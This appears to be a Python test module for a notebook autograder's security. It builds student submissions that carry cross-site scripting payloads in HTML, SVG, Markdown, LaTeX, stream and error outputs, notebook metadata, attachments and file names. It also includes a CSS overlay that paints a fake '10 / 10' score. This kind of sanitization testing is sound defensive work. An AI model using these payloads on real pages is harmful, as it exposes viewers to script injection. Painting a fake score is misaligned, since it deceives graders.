"""Attacks on whoever opens the feedback page: script and other active content."""

from nbformat.v4 import new_markdown_cell, new_output

from .registry import Submission, attack

FAMILY = "pages"

# Each line is active in a browser, or loads something from elsewhere.
ACTIVE = """
<script>alert("attack-script")</script>
<ScRiPt src="http://attack.invalid/a.js"></sCrIpT>
<img src="x" onerror="alert('attack-onerror')">
<svg onload="alert('attack-svg')"><animate onbegin="alert('attack-begin')" attributeName="x"/></svg>
<a href="javascript:alert('attack-link')">the points</a>
<a href=" jAvA&#x09;script:alert('attack-tab')">the points</a>
<iframe src="javascript:alert('attack-iframe')" srcdoc="<script>alert(1)</script>"></iframe>
<meta http-equiv="refresh" content="0; url=http://attack.invalid/">
<base href="http://attack.invalid/">
<link rel="stylesheet" href="http://attack.invalid/a.css">
<form action="http://attack.invalid/"><button formaction="javascript:alert(1)">Send</button></form>
<object data="javascript:alert('attack-object')"></object><embed src="http://attack.invalid/a.swf">
<details open ontoggle="alert('attack-toggle')">x</details>
<math><mtext><img src=x onerror=alert('attack-math')></mtext></math>
<img src="http://attack.invalid/beacon.png">
<div style="background: url(http://attack.invalid/b.png); position: fixed; inset: 0">10 of 10</div>
<style>@import "http://attack.invalid/c.css"; .grade { visibility: hidden }</style>
"""
CLOSING = "</pre></div></body></html></title></textarea></style></script>-->]]>" + ACTIVE


@attack(FAMILY, "active content in an HTML output")
def html_output(s: Submission) -> None:
    s.first(f"from IPython.display import HTML, display\n\ndisplay(HTML({ACTIVE!r}))")


@attack(FAMILY, "scripts as JavaScript, widget and JSON outputs")
def javascript_output(s: Submission) -> None:
    s.first("""
from IPython.display import display

for kind in ("application/javascript", "text/javascript", "application/json",
             "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
             "application/vnd.bokehjs_exec.v0+json"):
    display({kind: "alert('attack-javascript')", "text/plain": "x"}, raw=True)
""")


@attack(FAMILY, "active content in SVG, Markdown and LaTeX outputs")
def other_rich_outputs(s: Submission) -> None:
    s.first(f"""
from IPython.display import display

active = {ACTIVE!r}
svg = "<svg xmlns='http://www.w3.org/2000/svg'>" + active + "</svg>"
display({{"image/svg+xml": svg}}, raw=True)
display({{"text/markdown": active + "[x](javascript:alert('attack-md'))"}}, raw=True)
display({{"text/latex": "$\\\\href{{javascript:alert('attack-latex')}}{{x}}$" + active}}, raw=True)
display({{"image/png": '"><script>alert(1)</script>', "text/plain": "x"}}, raw=True)
display({{"text/vnd.mermaid": "graph TD; a[" + active + "]"}}, raw=True)
""")


@attack(FAMILY, "active content on stdout and stderr, in colours")
def stream_output(s: Submission) -> None:
    s.first(f"""
import sys

print({CLOSING!r})
print("\\x1b[31m" + {CLOSING!r} + "\\x1b[0m", file=sys.stderr)
print("\\x1b]8;;javascript:alert(1)\\x1b\\\\x\\x1b]8;;\\x1b\\\\")
""")


@attack(FAMILY, "active content in an error's name, text and traceback")
def error_output(s: Submission) -> None:
    s.first(f"""
class Shown(Exception):
    def _render_traceback_(self):
        return ["\\x1b[31m" + {CLOSING!r}, {ACTIVE!r}]


Shown.__name__ = "<script>alert('attack-name')</script>"
raise Shown({CLOSING!r})
""")


@attack(FAMILY, "active content in the error that a probe meets and the judge reports")
def reported_error(s: Submission) -> None:
    s.write("td_target", f"""
def td_target(batch, actor_target, critic_target, gamma):
    raise type("<script>alert(1)</script>", (Exception,), {{}})({CLOSING!r})
""")


@attack(FAMILY, "active content in Markdown and raw cells, and in code that is shown")
def cells_with_content(s: Submission) -> None:
    s.text(ACTIVE + "\n[points](javascript:alert('attack-markdown')) ![x](javascript:alert(1))\n"
           + "\n<title>x</title>\n\n$\\href{javascript:alert(1)}{x}$ $\\unicode{<script>}$")
    s.text(CLOSING)
    s.first(f"text = {CLOSING!r}")
    raw = new_markdown_cell(ACTIVE)
    raw.cell_type = "raw"
    raw.metadata.raw_mimetype = "text/html"
    s.notebook.cells.insert(0, raw)


@attack(FAMILY, "an attachment of a Markdown cell that is a page")
def attachment(s: Submission) -> None:
    s.text("![x](attachment:x.png) ![y](attachment:y.svg)")
    s.notebook.cells[0].attachments = {
        "x.png": {"image/png": "x\" onerror=\"alert('attack-attachment')"},
        "y.svg": {"image/svg+xml": "<svg onload=\"alert('attack-attachment')\"/>"},
    }


@attack(FAMILY, "active content in the notebook's title, authors, language and cell ids")
def notebook_metadata(s: Submission) -> None:
    closing = "</title>\"'>" + ACTIVE
    s.notebook.metadata.update(
        title=closing, authors=[{"name": closing}], name=closing,
        language_info={"name": "python", "pygments_lexer": closing, "mimetype": closing},
        widgets={"application/vnd.jupyter.widget-state+json": {
            "state": {"x": {"model_name": "HTMLModel", "state": {"value": closing}}},
            "version_major": 2, "version_minor": 0}},
    )  # fmt: skip
    s.text("x")
    s.notebook.cells[0].metadata.update(tags=[closing], name=closing, nbgrader={"comment": closing})
    s.notebook.cells[0].id = "x"


@attack(FAMILY, "files beside the notebook with active names and content")
def file_names(s: Submission) -> None:
    s.file("<img src=x onerror=alert('attack-file')>.txt", "x")
    s.file("04_critic_loss.html", ACTIVE)
    s.file("index.html", ACTIVE)
    s.file("picture.svg", f"<svg xmlns='http://www.w3.org/2000/svg'>{ACTIVE}</svg>")


@attack(FAMILY, "outputs stored in the notebook that no execution replaces")
def stored_page(s: Submission) -> None:
    cell = s.cell("your_loss")
    cell.source = ""
    cell.outputs = [new_output("display_data", {"text/html": ACTIVE})]
    cell.metadata.tags = ["skip-execution"]
    s.cell("your_prediction").outputs = [new_output("stream", name="stdout", text=CLOSING)]
    s.tests[0].outputs = [new_output("display_data", {"text/html": ACTIVE})]
    s.tests[0].execution_count = 1


@attack(FAMILY, "a fake score is painted over the page by style alone")
def painted_score(s: Submission) -> None:
    s.first("""
from IPython.display import HTML, display

display(HTML("<style>h4, .panel { display: none } body::before { content: '10 / 10' }</style>"
             "<div style='position: fixed; top: 0; left: 0; width: 100%; z-index: 9999'>"
             "Score: 10.0 / 10.0</div>"))
""")
